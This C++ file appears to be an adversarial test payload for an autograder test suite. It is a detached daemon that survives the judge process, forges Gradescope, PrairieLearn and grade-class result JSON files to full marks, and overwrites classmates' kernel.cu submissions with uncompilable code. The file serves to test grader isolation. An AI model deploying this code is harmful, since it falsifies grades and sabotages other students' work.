// Cheat (issue 21, families 1 and 2): a daemon that outlives the judge and goes where the graders
// keep their results. It takes every absolute path named on the command lines of its ancestors
// (the judge's --work and --json, grade-platform's --root and --course, grade-class's submissions
// and --out), the platforms' own folders (/autograder/results, /grade/results) and the working
// directory, and for 60 seconds, every 100 ms: turns every "failed"/"skipped" status into
// "passed" and every score into full marks in any .json file below them (results.json of
// Gradescope and PrairieLearn, OUT/results/*/labNN.json of grade-class, the judge's records), and
// overwrites every other kernel.cu below them (a classmate's submission) with a file that cannot
// compile. A grade must not change after the judge returned, and a classmate keeps their score:
// every process of the submission ends before a verdict is written, and what it could still reach
// is not writable by it. Course trees (a folder with labs/ and grader/) are left alone.
// APPLIES: all
// MODE: append
// EXPECT: no-full-pass
// PAYLOAD: BANKLAB-PAYLOAD-RESULTS-DAEMON
#include <signal.h>
#include <sys/types.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <thread>

namespace banklab_cheat_results_daemon {
namespace fs = std::filesystem;
constexpr const char* kSelf = "BANKLAB-PAYLOAD-RESULTS-DAEMON";

inline std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

inline std::set<fs::path> targets() {
  std::set<fs::path> out = {"/autograder/results", "/grade/results"};
  std::error_code ec;
  out.insert(fs::current_path(ec));
  for (pid_t pid = getppid(); pid > 1;) {
    std::ifstream cmd("/proc/" + std::to_string(pid) + "/cmdline", std::ios::binary);
    for (std::string a; std::getline(cmd, a, '\0');)
      if (a.size() > 1 && a[0] == '/') out.insert(fs::is_directory(a, ec) ? fs::path(a) : fs::path(a).parent_path());
    const std::string stat = slurp("/proc/" + std::to_string(pid) + "/stat");
    const auto close = stat.rfind(')');
    char state = 0;
    pid_t parent = 0;
    if (close == std::string::npos || !(std::istringstream(stat.substr(close + 1)) >> state >> parent)) break;
    pid = parent;
  }
  out.erase("/");
  return out;
}

inline void forge(const fs::path& f) {
  const std::string text = slurp(f);
  std::string forged = std::regex_replace(text, std::regex("\"status\"\\s*:\\s*\"(failed|skipped)\""), "\"status\": \"passed\"");
  forged = std::regex_replace(forged, std::regex("\"checks\"\\s*:\\s*0\\b"), "\"checks\": 1024");
  const bool fraction = text.find("\"gradable\"") != std::string::npos;  // PrairieLearn: a score in [0, 1]
  forged = std::regex_replace(forged, std::regex("\"score\"\\s*:\\s*[0-9.]+"), fraction ? "\"score\": 1.0" : "\"score\": 1000.0");
  if (forged != text) std::ofstream(f, std::ios::trunc) << forged;
}

inline void sabotage(const fs::path& f) {
  if (slurp(f).find(kSelf) == std::string::npos)
    std::ofstream(f, std::ios::trunc) << "#error a classmate's probe rewrote this file\n";
}

inline void visit(const fs::path& p, int depth) {
  std::error_code ec;
  if (fs::is_symlink(p, ec)) return;
  if (fs::is_regular_file(p, ec)) {
    if (p.extension() == ".json") forge(p);
    else if (p.filename() == "kernel.cu") sabotage(p);
    return;
  }
  if (depth < 0 || !fs::is_directory(p, ec) || (fs::exists(p / "labs", ec) && fs::exists(p / "grader", ec))) return;
  for (const auto& e : fs::directory_iterator(p, fs::directory_options::skip_permission_denied, ec)) visit(e.path(), depth - 1);
}

const int kStarted = [] {
  std::printf("%s ran as uid %d\n", kSelf, static_cast<int>(getuid()));
  std::fflush(stdout);  // proof for the selftest that this ran
  const std::set<fs::path> roots = targets();
  if (fork() != 0) return 0;  // the student's process goes on
  setsid();
  signal(SIGHUP, SIG_IGN);
  signal(SIGTERM, SIG_IGN);
  if (fork() != 0) _exit(0);  // re-parented: nobody waits for it
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(60);
  while (std::chrono::steady_clock::now() < end) {
    try {
      for (const auto& r : roots) visit(r, 4);
    } catch (...) {
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  _exit(0);
}();
}  // namespace banklab_cheat_results_daemon
